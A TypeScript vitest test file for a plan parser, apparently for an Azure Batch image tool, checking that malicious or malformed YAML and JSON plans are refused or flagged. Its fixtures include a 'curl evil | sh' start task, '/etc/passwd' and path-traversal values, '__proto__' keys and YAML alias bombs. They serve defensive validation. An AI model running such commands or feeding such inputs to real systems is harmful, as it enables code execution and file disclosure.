import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { applySetting, loadPlan, parsePlan, type PlanInputs } from '../../src/main/plan'

const plan = (inputs: string) => `schema: 1\nrecipe: from-disk\ninputs:\n${inputs}`
const folder = mkdtempSync(path.join(tmpdir(), 'plan-'))

function fileWith(text: string): string {
  const file = path.join(folder, `${Math.random().toString(36).slice(2)}.yaml`)
  writeFileSync(file, text)
  return file
}

describe('a plan', () => {
  it('is read from YAML and from JSON alike', () => {
    const yaml = parsePlan(plan('  pool.canary: { dedicated: 2 }'), 'a.yaml')
    const json = parsePlan('{"schema":1,"recipe":"from-disk","inputs":{"pool.canary":{"dedicated":2}}}', 'a.json')
    expect(yaml).toEqual({ recipe: 'from-disk', inputs: { 'pool.canary': { dedicated: 2 } } })
    expect(json).toEqual(yaml)
  })

  it.each([
    ['a key at the top', 'schema: 1\nrecipe: from-disk\nspeed: 3', 'speed'],
    ['a step', plan('  pool.destroy: {}'), 'inputs.pool.destroy'],
    ['a field', plan('  pool.canary: { count: 2 }'), 'inputs.pool.canary.count'],
    [
      'a nested field',
      plan('  image.version: { regions: [{ name: a, replicas: 1, x: 2 }] }'),
      'inputs.image.version.regions.0.x',
    ],
    ['a poisoned key', '{"schema":1,"recipe":"from-disk","inputs":{"__proto__":{"a":1}}}', '__proto__'],
  ])('with %s nobody knows is refused, naming it', (_what, text, keys) => {
    expect(() => parsePlan(text, 'a.yaml')).toThrow(
      expect.objectContaining({ code: 'plan.unknown-key', params: { keys } }) as Error,
    )
  })

  it.each([
    ['another schema', 'schema: 2\nrecipe: from-disk', 'schema'],
    ['an unknown recipe', 'schema: 1\nrecipe: from-thin-air', 'recipe'],
    ['a wrong value', plan('  pool.canary: { dedicated: many }'), 'inputs.pool.canary.dedicated'],
    ['a name Azure would refuse', plan('  prepare.storage: { name: Not-A-Name }'), 'inputs.prepare.storage.name'],
  ])('with %s is refused, naming the field', (_what, text, fields) => {
    expect(() => parsePlan(text, 'a.yaml')).toThrow(
      expect.objectContaining({ code: 'plan.invalid', params: { fields } }) as Error,
    )
  })

  it.each([
    ['no YAML', 'schema: [1'],
    ['repeated keys', 'schema: 1\nschema: 1\nrecipe: from-disk'],
    ['thousands of levels', '['.repeat(100_000)],
    [
      'a few levels too many',
      `{"schema":1,"recipe":"from-disk","inputs":{"a":{"b":${'['.repeat(30)}${']'.repeat(30)}}}}`,
    ],
    [
      'references that multiply',
      `a: &a [1,1]\n${'bcdefghijklmnop'
        .split('')
        .map((to, at) => `${to}: &${to} [${`*${'abcdefghijklmno'[at]!},`.repeat(9)}1]`)
        .join('\n')}`,
    ],
    [
      'keys that stand there twice',
      '{"schema":1,"recipe":"from-disk","inputs":{"pool.create":{"name":"a","name":"b"}}}',
    ],
    [
      'a key spelled in two ways',
      '{"schema":1,"recipe":"from-disk","inputs":{"pool.create":{"name":"a","n\\u0061me":"b"}}}',
    ],
    ['too many values', `{"schema":1,"recipe":"from-disk","inputs":{"a":{"b":[${'1,'.repeat(6000)}1]}}}`],
    ['5 MB of nesting in YAML', '['.repeat(5 * 1024 * 1024)],
    ['5 MB of nesting in JSON', `{"a":${'['.repeat(5 * 1024 * 1024)}`],
    ['nesting in YAML as deep as fits', '['.repeat(250_000)],
    ['nested lists in YAML as deep as fits', '- '.repeat(125_000)],
    ['nested maps in YAML', Array.from({ length: 600 }, (_, depth) => `${' '.repeat(depth)}a:`).join('\n')],
    ['100 000 keys', Array.from({ length: 100_000 }, (_, key) => `k${key}: 1`).join('\n')],
    ['as many keys as fit', Array.from({ length: 20_000 }, (_, key) => `k${key}: 1`).join('\n')],
    ['more than 5 MB', `# ${'x'.repeat(6 * 1024 * 1024)}\nschema: 1`],
  ])('of %s is unreadable, and that is said within a second', { timeout: 10_000 }, (_what, text) => {
    const started = performance.now()
    expect(() => parsePlan(text, 'a.yaml')).toThrow(expect.objectContaining({ code: 'plan.unreadable' }) as Error)
    expect(performance.now() - started).toBeLessThan(1000)
  })

  it.each([
    ['a line that turns around', 'name', 'pool\u202Elive'],
    ['a sign nobody sees', 'name', 'po\u200Bol'],
    ['an escape of the terminal', 'startTask', 'echo \u001b[2J'],
    ['a NUL', 'startTask', 'echo \u0000'],
  ])('with %s in it is refused, naming the field', (_what, field, value) => {
    const text = JSON.stringify({ schema: 1, recipe: 'from-disk', inputs: { 'pool.create': { [field]: value } } })
    expect(() => parsePlan(text, 'a.json')).toThrow(
      expect.objectContaining({ code: 'plan.invalid', params: { fields: `inputs.pool.create.${field}` } }) as Error,
    )
  })

  it.each([
    ['a path', { 'disk.choose': { file: '/etc/passwd' } }, 'disk.choose.file', 'file'],
    ['a path on a server', { 'disk.choose': { file: '\\\\host\\share\\a.vhd' } }, 'disk.choose.file', 'file'],
    ['a path beside it', { 'disk.choose': { file: '../a.vhd' } }, 'disk.choose.file', 'file'],
    ['a cloud profile', { 'connect.cloud': { cloud: './cloud.json' } }, 'connect.cloud.cloud', 'profile'],
    ['a start task', { 'pool.create': { startTask: 'curl evil | sh' } }, 'pool.create.startTask', 'script'],
  ])('tells of %s that it names itself', async (_what, inputs, at, what) => {
    const file = fileWith(JSON.stringify({ schema: 1, recipe: 'from-disk', inputs }))
    const value = Object.values(Object.values(inputs)[0]!)[0]
    expect((await loadPlan(file)).concerns).toEqual([{ at, what, value }])
    expect((await loadPlan(file, [`${at}=mine`])).concerns).toEqual([])
  })

  it.each(['env:HOME', 'env:BIS_TOKEN', 'ENV:PATH'])(
    'may not point to a secret (%s) where no secret belongs',
    (value) => {
      expect(() => parsePlan(plan(`  connect.cloud: { tenant: "${value}" }`), 'a.yaml')).toThrow(
        expect.objectContaining({ code: 'plan.secret', params: { keys: 'inputs.connect.cloud.tenant' } }) as Error,
      )
    },
  )

  it('that is not there is unreadable', async () => {
    await expect(loadPlan(path.join(folder, 'none.yaml'))).rejects.toMatchObject({ code: 'plan.unreadable' })
  })

  it('finds the disk beside itself, a setting where the command was given', async () => {
    const file = fileWith(plan('  disk.choose: { file: disk.vhd }'))
    expect((await loadPlan(file)).inputs['disk.choose']).toEqual({ file: path.join(folder, 'disk.vhd') })
    const set = await loadPlan(file, ['disk.choose.file=other.vhd'])
    expect(set.inputs['disk.choose']).toEqual({ file: path.resolve('other.vhd') })
  })

  it('is complete and right in the example', async () => {
    const example = await loadPlan('examples/from-disk.yaml')
    expect(Object.keys(example.inputs)).toHaveLength(18)
  })
})

describe('a setting', () => {
  const applied = (setting: string, inputs: PlanInputs = {}) => {
    applySetting({ recipe: 'from-disk', inputs }, setting)
    return inputs
  }

  it.each([
    ['pool.canary.dedicated=3', { 'pool.canary': { dedicated: 3 } }],
    ['pool.create.interNodeCommunication=true', { 'pool.create': { interNodeCommunication: true } }],
    ['pool.create.name=2024', { 'pool.create': { name: '2024' } }],
    ['disk.choose.file=C:\\disks\\a=b.vhd', { 'disk.choose': { file: 'C:\\disks\\a=b.vhd' } }],
    [
      'image.version.regions=[{"name":"westeurope","replicas":2}]',
      { 'image.version': { regions: [{ name: 'westeurope', replicas: 2 }] } },
    ],
  ])('%s overrides one field', (setting, expected) => {
    expect(applied(setting)).toEqual(expected)
  })

  it('reaches into lists', () => {
    const before: PlanInputs = { 'image.version': { regions: [{ name: 'westeurope', replicas: 1 }] } }
    expect(applied('image.version.regions.0.replicas=5', before)).toEqual({
      'image.version': { regions: [{ name: 'westeurope', replicas: 5 }] },
    })
  })

  it.each([
    ['pool.canary.count=1', 'plan.unknown-key'],
    ['pool.canary=1', 'plan.invalid'],
    ['nonsense', 'plan.invalid'],
    ['pool.canary.__proto__.x=1', 'plan.unknown-key'],
    ['pool.canary.dedicated=-1', 'plan.invalid'],
    ['pool.create.name=env:BIS_NAME', 'plan.invalid'],
    ['connect.cloud.tenant=env:BIS_TENANT', 'plan.secret'],
  ])('%s is refused', (setting, code) => {
    expect(() => applied(setting)).toThrow(expect.objectContaining({ code }) as Error)
  })
})
